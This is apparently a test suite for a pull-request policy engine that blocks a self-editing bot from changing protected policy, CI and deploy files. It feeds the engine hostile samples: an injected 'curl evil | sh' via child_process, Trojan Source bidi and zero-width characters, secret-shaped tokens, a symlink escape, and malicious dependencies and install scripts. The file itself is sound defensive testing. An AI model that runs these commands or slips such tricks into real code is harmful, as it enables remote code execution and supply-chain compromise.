// The engine over ChangeSets built directly: decisions, risk, self-edit vs human, fail
// closed, evaluate mode, file-level rules. (The CLI tests run it over real git repos.)
import { describe, expect, it } from "vitest";
import { evaluate } from "../../../policy-engine/engine.ts";
import { loadPolicy } from "../../../policy-engine/policy/load.ts";
import type { ChangedFile, PrFacts, Verdict } from "../../../policy-engine/types.ts";
import { addedFile, changeSet, DEFAULT_POLICY_TEXT, modifiedFile } from "../rules/helpers.ts";

const loaded = loadPolicy([{ path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT }]);
const SELF: PrFacts = { selfEdit: true, author: "ouro[bot]" };
const HUMAN: PrFacts = { selfEdit: false, author: "alice" };

function run(files: ChangedFile[], facts: PrFacts = SELF, policy = loaded): Verdict {
  return evaluate(changeSet(...files), policy, facts);
}
const rules = (v: Verdict) => v.findings.map((f) => f.rule);
const withPolicy = (extra: string) => loadPolicy([{ path: "policies/ouro.yml", text: `${DEFAULT_POLICY_TEXT}\n${extra}` }]);

const PLUGIN = `import { definePlugin } from "../../plugin-api/index.ts";

export default definePlugin({
  name: "hello",
  description: "Says hello",
  commands: [
    {
      name: "hello",
      description: "Say hello",
      async run(call) {
        await call.reply("Hello!");
      },
    },
  ],
});
`;
const PLUGIN_TEST = `import { describe, expect, it } from "vitest";
import plugin from "./index.ts";

describe("hello", () => {
  it("is named", () => {
    expect(plugin.name).toBe("hello");
  });
});
`;
const REGISTRY_BEFORE = `import type { Plugin } from "../plugin-api/index.ts";\nimport ping from "./ping/index.ts";\n\nexport const plugins: Plugin[] = [ping];\n`;
const REGISTRY_AFTER = `import type { Plugin } from "../plugin-api/index.ts";\nimport ping from "./ping/index.ts";\nimport hello from "./hello/index.ts";\n\nexport const plugins: Plugin[] = [ping, hello];\n`;

const goodSelfEdit = () => [
  addedFile("bot/plugins/hello/index.ts", PLUGIN),
  addedFile("bot/plugins/hello/hello.test.ts", PLUGIN_TEST),
  modifiedFile("bot/plugins/index.ts", REGISTRY_BEFORE, REGISTRY_AFTER, [3, 5], { removedLineCount: 1 }),
];

describe("evaluate: an ordinary self-edit", () => {
  it("adding a plugin with its test and registry entry has no findings and needs the low level's approval", () => {
    const v = run(goodSelfEdit());
    expect(v).toEqual({ decision: "needs-approval", risk: "low", requiredApprovals: 1, automerge: true, mode: "enforce", findings: [] });
  });

  it("a docs-only human change is safe and passes", () => {
    const v = run([modifiedFile("README.md", "a\n", "a\nb\n", [2])], HUMAN);
    expect(v).toMatchObject({ decision: "pass", risk: "safe", requiredApprovals: 0, automerge: true, findings: [] });
  });
});

describe("evaluate: fail closed", () => {
  it("blocks with one policy/load finding per error when the policy does not load", () => {
    const bad = loadPolicy([{ path: "policies/ouro.yml", text: "mode: enforce\nbogus: 1\nlimits:\n  files: x\n" }]);
    const v = run(goodSelfEdit(), HUMAN, bad);
    expect(v.decision).toBe("block");
    expect(v.risk).toBe("critical");
    expect(v.automerge).toBe(false);
    expect(v.findings).toEqual([
      { rule: "policy/load", severity: "error", file: "policies/ouro.yml", line: 2, column: 1, message: expect.stringContaining("bogus") },
      {
        rule: "policy/load",
        severity: "error",
        file: "policies/ouro.yml",
        line: 4,
        column: 10,
        message: expect.stringContaining("limits.files"),
      },
    ]);
  });

  it("blocks when there is no policy at all", () => {
    const v = run(goodSelfEdit(), SELF, loadPolicy([]));
    expect(v).toMatchObject({ decision: "block", risk: "critical", findings: [{ rule: "policy/load" }] });
  });
});

describe("evaluate: protected and editable paths", () => {
  it.each([
    "policies/ouro.yml",
    ".github/workflows/policy.yml",
    "actions/policy-check/src/run.ts",
    "policy-engine/engine.ts",
    "contract/app-link.ts",
    "deploy-hook/main.ts",
    "bot/core/plugin.ts",
    "package.json",
    "CODEOWNERS",
  ])("a self-edit touching %s is blocked", (path) => {
    const v = run([...goodSelfEdit(), modifiedFile(path, "x\n", "y\n", [1])]);
    expect(v.decision).toBe("block");
    expect(v.findings).toContainEqual(expect.objectContaining({ rule: "paths/protected", severity: "error", file: path }));
  });

  it("a self-edit outside the editable paths is blocked", () => {
    const v = run([addedFile("docs/notes.md", "hi\n")]);
    expect(v.decision).toBe("block");
    expect(rules(v)).toContain("paths/not-editable");
  });

  it("a self-edit is recognised from the author or label even when facts.selfEdit is false", () => {
    const byAuthor = run([modifiedFile("app/main.ts", "x\n", "y\n", [1])], { selfEdit: false, author: "ouro[bot]" });
    const byLabel = run([modifiedFile("app/main.ts", "x\n", "y\n", [1])], { selfEdit: false, author: "mallory", labels: ["ouro"] });
    expect(byAuthor.decision).toBe("block");
    expect(byLabel.decision).toBe("block");
  });

  it("a human change to a protected path needs code-owner approval at high risk, not a block", () => {
    const v = run([modifiedFile("app/main.ts", "x\n", "y\n", [1])], HUMAN);
    expect(v).toMatchObject({ decision: "needs-approval", risk: "high", requiredApprovals: 2, automerge: false });
    expect(v.findings).toEqual([expect.objectContaining({ rule: "paths/protected", severity: "warning", file: "app/main.ts" })]);
  });

  it("a human change to policies/ is critical", () => {
    const v = run([modifiedFile("policies/ouro.yml", "x\n", "y\n", [1])], HUMAN);
    expect(v).toMatchObject({ decision: "needs-approval", risk: "critical", requiredApprovals: 2 });
  });

  it("renames out of a protected path are caught on both sides", () => {
    const rename: ChangedFile = {
      path: "bot/plugins/x/plugin.ts",
      oldPath: "bot/core/plugin.ts",
      status: "renamed",
      oldMode: "100644",
      newMode: "100644",
      binary: false,
      before: "x\n",
      after: "x\n",
      addedLines: [],
      removedLineCount: 0,
    };
    const self = run([rename]);
    expect(self.decision).toBe("block");
    expect(rules(self)).toEqual(expect.arrayContaining(["paths/protected", "paths/rename-protected"]));
    const human = run([rename], HUMAN);
    expect(human.decision).toBe("needs-approval");
    expect(rules(human)).toEqual(expect.arrayContaining(["paths/protected", "paths/rename-protected"]));
  });

  it("renames into a protected path are caught", () => {
    const rename: ChangedFile = {
      path: ".github/workflows/x.yml",
      oldPath: "bot/plugins/x/x.yml",
      status: "renamed",
      binary: false,
      before: "a\n",
      after: "a\n",
      addedLines: [],
      removedLineCount: 0,
    };
    expect(rules(run([rename]))).toEqual(expect.arrayContaining(["paths/protected", "paths/rename-protected"]));
  });

  it("a deletion of a protected file by a self-edit is blocked", () => {
    const del: ChangedFile = {
      path: "policies/ouro.yml",
      status: "deleted",
      oldMode: "100644",
      newMode: "000000",
      binary: false,
      before: "x\n",
      addedLines: [],
      removedLineCount: 1,
    };
    expect(run([del]).decision).toBe("block");
  });
});

describe("evaluate: file kinds", () => {
  it("flags a symlink (error when it escapes its folder)", () => {
    const link = addedFile("bot/plugins/hello/link", "../../../policies/ouro.yml", { newMode: "120000" });
    const v = run([...goodSelfEdit(), link], HUMAN);
    expect(v.findings).toContainEqual(expect.objectContaining({ rule: "files/symlink", severity: "error" }));
    expect(v.decision).toBe("block");
  });

  it("flags a submodule, a binary file and a file becoming executable", () => {
    const sub: ChangedFile = {
      path: "bot/plugins/hello/vendor",
      status: "added",
      newMode: "160000",
      binary: false,
      after: "Subproject commit abc",
      addedLines: [],
      removedLineCount: 0,
    };
    const bin: ChangedFile = {
      path: "bot/plugins/hello/logo.png",
      status: "added",
      newMode: "100644",
      binary: true,
      addedLines: [],
      removedLineCount: 0,
    };
    const exec = modifiedFile("bot/plugins/hello/run.sh", "echo\n", "echo\n", [], { oldMode: "100644", newMode: "100755" });
    const v = run([...goodSelfEdit(), sub, bin, exec]);
    expect(rules(v)).toEqual(expect.arrayContaining(["files/submodule", "files/binary", "files/mode"]));
    expect(v.decision).toBe("block");
    const human = run([...goodSelfEdit(), sub, bin, exec], HUMAN);
    expect(human.decision).toBe("needs-approval");
  });
});

describe("evaluate: Trojan Source and invisible characters", () => {
  it("flags a bidi override in any text file, with line and column", () => {
    const v = run([modifiedFile("README.md", "a\n", "a\n/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n", [2])], HUMAN);
    expect(v.decision).toBe("block");
    expect(v.findings[0]).toMatchObject({ rule: "unicode/bidi", file: "README.md", line: 2, column: 3 });
  });

  it("flags zero-width characters in code but not emoji sequences", () => {
    const hostile = run([...goodSelfEdit().slice(1), addedFile("bot/plugins/hello/index.ts", PLUGIN.replace("Hello!", "Hel\u200Blo!"))]);
    expect(rules(hostile)).toContain("unicode/invisible");
    const family = "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}";
    const emoji = run([
      ...goodSelfEdit().slice(1),
      addedFile("bot/plugins/hello/index.ts", PLUGIN.replace("Hello!", `Hello ${family} \u2764\uFE0F \u{1F44D}\u{1F3FD}`)),
    ]);
    expect(emoji.findings).toEqual([]);
  });

  it("flags bidi characters in a path", () => {
    expect(rules(run([addedFile("bot/plugins/hello/a\u202Eexe.ts", "export {};\n")], HUMAN))).toContain("unicode/bidi");
  });
});

// Secret-shaped values are assembled at run time so this file never holds one itself
// (a PR touching it must not trip the very rule it tests).
describe("evaluate: secrets", () => {
  const secretLine = (value: string) => run([addedFile("docs/config.md", `token: ${value}\n`)], HUMAN);
  it.each([
    ["GitHub PAT", `ghp_${"a1B2c3D4e5".repeat(3)}abcdef`, "secrets/github-token"],
    ["GitHub app token", `ghs_${"Z9y8X7w6V5".repeat(3)}uvwxyz`, "secrets/github-token"],
    ["fine-grained PAT", `github_pat_11ABCDEFG0${"x".repeat(72)}`, "secrets/github-token"],
    [
      "Discord bot token",
      ["MTA4NjQ1", "NjI3NDU2", "NzI4NjY1Ng", ".GkXyZa.", "abcdefghijklmn", "opqrstuvwxyz0123"].join(""),
      "secrets/discord-token",
    ],
    ["OpenAI key", `sk-proj-${"Ab3".repeat(16)}`, "secrets/openai-key"],
    ["private key", ["-----BEGIN OPENSSH", "PRIVATE KEY-----"].join(" "), "secrets/private-key"],
    ["AWS key id", ["AKIA", "IOSFODNN7EXAMPLE"].join(""), "secrets/aws-key"],
    ["Discord webhook URL", `https://discord.com/api/webhooks/123456789012345678/${"aB3_-x".repeat(11)}`, "secrets/discord-webhook"],
    ["npm token", `npm_${"a1B2c3".repeat(6)}`, "secrets/npm-token"],
    ["Google API key", `AIza${"Sy9_-aB3cD".repeat(3)}abcde`, "secrets/google-api-key"],
    ["Stripe live key", ["sk_live_", "4eC39HqLyj", "WDarjtT1zd", "p7dc"].join(""), "secrets/stripe-key"],
  ])("catches a %s", (_name, value, rule) => {
    const v = secretLine(value);
    expect(v.decision).toBe("block");
    expect(rules(v)).toContain(rule);
  });

  it("catches a high-entropy string literal in code, not ordinary strings", () => {
    const hostile = `export const key = "q8Zr2Lk9Vw3Xp7Tn1Ys5Bd4Hm6Jf0Gc";\n`;
    expect(rules(run([addedFile("bot/plugins/hello/key.ts", hostile)], HUMAN))).toContain("secrets/high-entropy");
    const benign = `export const a = "550e8400-e29b-41d4-a716-446655440000";\nexport const b = "https://discord.com/api/v10/applications/123456789012345678/commands";\nexport const c = "SlashCommandBuilderOptionsForTheHelloPlugin";\nexport const d = "1234567890123456789";\nexport const e = "da39a3ee5e6b4b0d3255bfef95601890afd80709";\n`;
    expect(
      rules(run([addedFile("bot/plugins/hello/consts.ts", benign), addedFile("bot/plugins/hello/consts.test.ts", "export {};\n")], HUMAN)),
    ).toEqual([]);
  });
});

describe("evaluate: limits (anomalies)", () => {
  it("flags more than 5 files and more than 10,000 characters", () => {
    const files = Array.from({ length: 6 }, (_, i) =>
      addedFile(`bot/plugins/big/f${i}.test.ts`, `export const x${i} = "${"a b ".repeat(500)}";\n`),
    );
    const v = run(files);
    expect(rules(v)).toEqual(expect.arrayContaining(["limits/files", "limits/chars-added", "limits/new-files"]));
    expect(v.decision).toBe("block");
    expect(run(files, HUMAN).decision).toBe("needs-approval");
  });

  it("stays quiet at exactly the limits", () => {
    const files = Array.from({ length: 5 }, (_, i) => addedFile(`bot/plugins/big/f${i}.test.ts`, `// ${"x".repeat(1990)}\n`));
    expect(run(files).findings).toEqual([]);
  });
});

describe("evaluate: dependencies", () => {
  const manifest = (deps: Record<string, string>, scripts: Record<string, string> = {}) =>
    JSON.stringify({ name: "ouro", scripts, dependencies: deps }, null, 2) + "\n";
  const before = manifest({ zod: "^4.0.0" });

  it("blocks a denied package and flags install scripts and non-registry sources", () => {
    const after = manifest({ zod: "^4.0.0", "event-stream": "^3.3.6", evil: "github:evil/pkg" }, { postinstall: "node x.js" });
    const v = run([modifiedFile("package.json", before, after, [3, 4, 5, 6, 7])], HUMAN);
    expect(v.decision).toBe("block");
    expect(rules(v)).toEqual(expect.arrayContaining(["deps/denied", "deps/non-registry", "deps/install-script", "paths/protected"]));
  });

  it("enforces an allowlist when one is set", () => {
    const policy = withPolicy("");
    const strict = loadPolicy([
      { path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT.replace("allow: [] # empty: any package not denied", "allow: [zod]") },
    ]);
    expect(policy.ok && strict.ok).toBe(true);
    const after = manifest({ zod: "^4.1.0", lodash: "^4.17.21" });
    const v = run([modifiedFile("package.json", before, after, [4, 5])], HUMAN, strict);
    expect(v.findings.filter((f) => f.rule === "deps/not-allowed")).toEqual([
      expect.objectContaining({ message: expect.stringContaining("lodash") }),
    ]);
  });

  it("blocks new lockfile entries with install scripts", () => {
    const lock = (pkgs: Record<string, unknown>) => JSON.stringify({ lockfileVersion: 3, packages: { "": {}, ...pkgs } }, null, 2);
    const lb = lock({ "node_modules/zod": { version: "4.0.0", resolved: "https://registry.npmjs.org/zod/-/zod-4.0.0.tgz" } });
    const la = lock({
      "node_modules/zod": { version: "4.0.0", resolved: "https://registry.npmjs.org/zod/-/zod-4.0.0.tgz" },
      "node_modules/sneaky": { version: "1.0.0", resolved: "https://registry.npmjs.org/sneaky/-/sneaky-1.0.0.tgz", hasInstallScript: true },
    });
    const v = run([modifiedFile("package-lock.json", lb, la, [3])], HUMAN);
    expect(v.findings).toContainEqual(
      expect.objectContaining({ rule: "deps/install-script", severity: "error", message: expect.stringContaining("sneaky") }),
    );
  });
});

describe("evaluate: tests travel with plugin code", () => {
  it("flags plugin code without a test in its folder", () => {
    const v = run([addedFile("bot/plugins/hello/index.ts", PLUGIN)]);
    expect(v.findings).toEqual([expect.objectContaining({ rule: "tests/missing", severity: "error", file: "bot/plugins/hello/index.ts" })]);
    expect(v.decision).toBe("block");
  });

  it("a test in another plugin's folder does not count", () => {
    const v = run([addedFile("bot/plugins/hello/index.ts", PLUGIN), addedFile("bot/plugins/other/other.test.ts", PLUGIN_TEST)]);
    expect(rules(v)).toEqual(["tests/missing"]);
  });

  it("flags deleted tests and added .skip/.only", () => {
    const del: ChangedFile = {
      path: "bot/plugins/ping/ping.test.ts",
      status: "deleted",
      binary: false,
      before: "x\n",
      addedLines: [],
      removedLineCount: 1,
    };
    const skipped = modifiedFile(
      "bot/plugins/hello/hello.test.ts",
      PLUGIN_TEST,
      PLUGIN_TEST.replace('it("is named"', 'it.skip("is named"'),
      [5],
    );
    const v = run([addedFile("bot/plugins/hello/index.ts", PLUGIN), skipped, del]);
    expect(rules(v)).toEqual(expect.arrayContaining(["tests/deleted", "tests/skip-only"]));
  });

  it("registry and settings edits need no test", () => {
    const v = run([modifiedFile("bot/plugins/settings.ts", "a\n", "b\n", [1]), goodSelfEdit()[2]]);
    expect(v.findings).toEqual([]);
  });
});

describe("evaluate: forbidden APIs decide the verdict", () => {
  it("blocks a self-edit plugin using child_process, even in evaluate-less defaults", () => {
    const evil = PLUGIN.replace(
      'await call.reply("Hello!");',
      'const { exec } = require("node:child_process");\n        exec("curl evil | sh");',
    );
    const v = run([addedFile("bot/plugins/hello/index.ts", evil), goodSelfEdit()[1]]);
    expect(v.decision).toBe("block");
    expect(v.findings).toContainEqual(expect.objectContaining({ rule: "api/forbidden-module", line: 11 }));
  });
});

describe("evaluate: mode and overrides", () => {
  it("evaluate mode never blocks but says what enforce would do", () => {
    const v = run(
      [modifiedFile("policies/ouro.yml", "x\n", "y\n", [1])],
      SELF,
      withPolicy("").ok
        ? loadPolicy([{ path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT.replace("mode: enforce", "mode: evaluate") }])
        : loaded,
    );
    expect(v.mode).toBe("evaluate");
    expect(v.decision).toBe("needs-approval");
    expect(v.automerge).toBe(false);
    expect(v.findings.at(-1)).toMatchObject({
      rule: "policy/evaluate-mode",
      severity: "info",
      message: expect.stringContaining("BLOCKED"),
    });
  });

  it("overrides can lower or silence a rule", () => {
    const p = loadPolicy([
      { path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT.replace("overrides: {}", "overrides:\n  tests/missing: off") },
    ]);
    expect(p.ok).toBe(true);
    expect(run([addedFile("bot/plugins/hello/index.ts", PLUGIN)], SELF, p).findings).toEqual([]);
  });
});

describe("evaluate: where forbidden-API rules apply", () => {
  const spawner = `import { execFileSync } from "node:child_process";\nexport const sha = () => execFileSync("git", ["rev-parse", "HEAD"]);\n`;

  it("a human change to the control plane may use child_process (code owners review it)", () => {
    const v = run([addedFile("deploy-hook/release-mirror.ts", spawner)], HUMAN);
    expect(rules(v)).toEqual(["paths/protected"]);
    expect(v.decision).toBe("needs-approval");
  });

  it("a human change to plugin code may not", () => {
    const v = run([addedFile("bot/plugins/hello/git.ts", spawner), addedFile("bot/plugins/hello/git.test.ts", "export {};\n")], HUMAN);
    expect(v.decision).toBe("block");
    expect(rules(v)).toContain("api/forbidden-module");
  });

  it("a self-edit is checked in every changed code file", () => {
    expect(rules(run([addedFile("deploy-hook/release-mirror.ts", spawner)]))).toEqual(
      expect.arrayContaining(["api/forbidden-module", "paths/protected"]),
    );
  });
});
